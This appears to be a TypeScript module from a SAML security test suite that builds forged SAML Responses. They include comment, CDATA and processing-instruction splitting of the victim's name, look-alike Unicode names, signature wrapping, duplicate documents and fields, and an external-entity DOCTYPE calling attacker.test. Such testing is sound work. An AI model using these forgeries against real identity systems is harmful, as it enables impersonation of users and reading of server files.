import type { RespondOptions } from '../idp/test-idp.ts';
import { type Forgery, impersonates, postFields } from './forgery.ts';
import { clearModes, type ForgeryMaterial } from './material.ts';
import { replace } from './parts.ts';

const suffix = '.attacker.test';
const prefix = 'x-';

/** A genuine Response for a user whose name contains that of the victim. */
function responseFor(
  { victim, response }: ForgeryMaterial,
  around: (name: string) => string,
  changes: Partial<RespondOptions> = {},
): string {
  const { id, email, nameId } = victim;
  const user = { ...victim, id: around(id), email: email && around(email), nameId: nameId && around(nameId) };
  return response({ user, ...changes });
}

/** The victim's names as text of elements, each at its place. */
function namesOf({ victim: { id, email, nameId } }: ForgeryMaterial): readonly string[] {
  return [id, email, nameId].filter((name) => name !== undefined);
}

/** Rewrites the signed text that follows the victim's name. */
function split(material: ForgeryMaterial, write: (rest: string) => string): string {
  return namesOf(material).reduce(
    (xml, name) => xml.replaceAll(`>${name}${suffix}<`, `>${name}${write(suffix)}<`),
    responseFor(material, (name) => name + suffix),
  );
}

/** The name in letters that compatibility normalization (Unicode NFKC) maps to it. */
function lookalike(name: string): string {
  return name.replace(/^[a-z]/, (letter) => String.fromCodePoint(letter.charCodeAt(0) - 0x61 + 0x24d0));
}

const forge = (
  name: string,
  row: string,
  description: string,
  make: Forgery['make'],
  more: Pick<Forgery, 'from' | 'succeeded'> = {},
): Forgery => ({ name, row, description, make, succeeded: impersonates, ...more });

/** Text that two parsers read differently. The application may sign in the user who really has that name. */
export const textForgeries: readonly Forgery[] = [
  forge(
    'comment-in-name',
    'TXT-1',
    'Signed for victim.attacker.test, then a comment was inserted after victim. Careless: reads the first text node, while canonicalization removes comments.',
    (material) => split(material, (rest) => `<!---->${rest}`),
  ),
  forge('cdata-in-name', 'TXT-2', 'The same with a CDATA section, which canonicalization makes text.', (material) =>
    split(material, (rest) => `<![CDATA[${rest}]]>`),
  ),
  forge('processing-instruction-in-name', 'TXT-3', 'The same with a processing instruction.', (material) =>
    split(material, (rest) => `<?x y?>${rest}`),
  ),
  forge(
    'processing-instruction-for-text',
    'C14-5',
    'Signed for x-victim; then x- became a processing instruction, which some canonicalizers write as text.',
    (material) =>
      namesOf(material).reduce(
        (xml, name) => xml.replaceAll(`>${prefix}${name}<`, `><?x ${prefix}?>${name}<`),
        responseFor(material, (name) => prefix + name),
      ),
  ),
  forge(
    'element-in-name',
    'TXT-4',
    'Signed with an element between victim and the rest. Careless: reads the first text node.',
    (material) =>
      responseFor(material, (name) => name + suffix, {
        mutateBeforeSigning: (xml) =>
          namesOf(material).reduce(
            (text, name) => text.replaceAll(`>${name}${suffix}<`, `>${name}<x xmlns="urn:x"/>${suffix}<`),
            xml,
          ),
      }),
  ),
  forge(
    'look-alike-name',
    'NAM-3',
    'A genuine Response for a user whose name looks like that of the victim. Careless: normalizes names before it compares them.',
    (material) => responseFor(material, lookalike),
  ),
  forge(
    'doctype',
    'DTD-1',
    'A genuine Response with a document type that refers to an external entity. Careless: its parser reads files and other servers.',
    (material) => `<!DOCTYPE x [<!ENTITY x SYSTEM "http://attacker.test/x">]>${material.victimsResponse()}`,
    { succeeded: ({ who }) => who !== 'none' },
  ),
  forge(
    'id-by-entity',
    'XSW-10',
    'A forged Response whose ID is an entity, with a genuine one inside it. Careless: does not detect that the two IDs are equal.',
    (material) => {
      const genuine = material.response();
      const id = / ID="([^"]*)"/.exec(genuine)?.[1] ?? '';
      const forged = replace(material.forgedResponse, / ID="[^"]*"/, ' ID="&x;"');
      return `<!DOCTYPE x [<!ENTITY x "${id}">]>${replace(forged, '<samlp:Status>', `<samlp:Extensions>${genuine}</samlp:Extensions><samlp:Status>`)}`;
    },
    { from: clearModes },
  ),
  forge(
    'two-documents',
    'PRS-5',
    'A forged Response follows the genuine one, as a second document. Careless: its parser accepts both.',
    (material) => material.response() + material.forgedResponse,
    { from: clearModes },
  ),
  forge(
    'two-documents-forged-first',
    'PRS-4',
    'A forged Response, then the genuine one as a second document.',
    (material) => material.forgedResponse + material.response(),
    { from: clearModes },
  ),
  forge(
    'field-twice',
    'RDR-2',
    'The form has two fields SAMLResponse, the genuine one first. Careless: verifies one, reads the other.',
    (material) => ({
      fields: [...postFields(material.response(), material), ...postFields(material.forgedResponse, material)],
    }),
  ),
];
